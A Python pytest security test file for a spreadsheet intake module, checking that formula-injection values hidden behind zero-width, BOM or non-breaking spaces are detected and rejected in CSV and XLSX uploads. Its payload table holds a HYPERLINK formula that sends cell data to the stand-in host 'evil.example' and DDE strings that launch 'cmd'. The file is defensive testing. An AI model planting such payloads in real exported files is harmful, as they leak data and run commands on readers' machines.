"""Formula check bypass: invisible or non-ASCII spaces before ``=`` ``+`` ``-`` ``@``.

Intake stores a cell normalised (zero-width characters and a BOM dropped,
non-breaking and ideographic spaces folded and stripped), so a formula typed
behind such a character would be stored as a formula a spreadsheet executes
when the province exports the data. The check runs on the normalised text.
Real .xlsx and .csv files through the reader; the typed records are checked too.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from review_calendar.intake import issues as E
from review_calendar.intake.normalize import is_formula, to_text
from tests.unit.intake_cases import contact_rows, read_contacts, write_csv, write_xlsx

pytestmark = pytest.mark.security

LEADS = {
    "zero-width-space": "\u200b",
    "no-break-space": "\u00a0",
    "bom": "\ufeff",
    "ideographic-space": "\u3000",
    "word-joiner": "\u2060",
    "left-to-right-mark": "\u200e",
    "zwsp-and-space": "\u200b \u3000",
}
PAYLOADS = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-1+cmd|' /C calc'!A0",
    "at": "@SUM(1,2)",
}
CASES = [
    pytest.param(lead + payload, id=f"{ln}-{pn}")
    for ln, lead in LEADS.items()
    for pn, payload in PAYLOADS.items()
]


@pytest.mark.parametrize("value", CASES)
def test_hidden_formula_is_recognised_after_normalising(value: str) -> None:
    stored = to_text(value)

    assert stored is not None
    assert is_formula(value) and is_formula(stored)


@pytest.mark.parametrize("value", CASES)
def test_hidden_formula_in_csv_is_rejected_and_not_stored(tmp_path: Path, value: str) -> None:
    path = write_csv(tmp_path / "名单.csv", contact_rows((0, "职务", value)), encoding="utf-8")

    table = read_contacts(path)

    assert [(i.code, i.row, i.column) for i in table.issues] == [(E.FORMULA_NOT_ALLOWED, 3, "职务")]
    assert table.rows[0][1]["职务"] is None


@pytest.mark.parametrize("lead", list(LEADS.values()), ids=list(LEADS))
def test_hidden_formula_text_in_xlsx_is_rejected(tmp_path: Path, lead: str) -> None:
    path = write_xlsx(tmp_path / "名单.xlsx", contact_rows((1, "职务", lead + "=1+1")))

    table = read_contacts(path)

    assert [(i.code, i.row, i.column) for i in table.issues] == [(E.FORMULA_NOT_ALLOWED, 4, "职务")]


@pytest.mark.parametrize(
    "value", ["\u3000-12.5", "\u00a0+86 138 1234 5678", "\u200b处长", "\ufeff张三", "\u3000 12%"]
)
def test_signed_numbers_phones_and_text_behind_spaces_are_not_formulas(value: str) -> None:
    assert not is_formula(value)
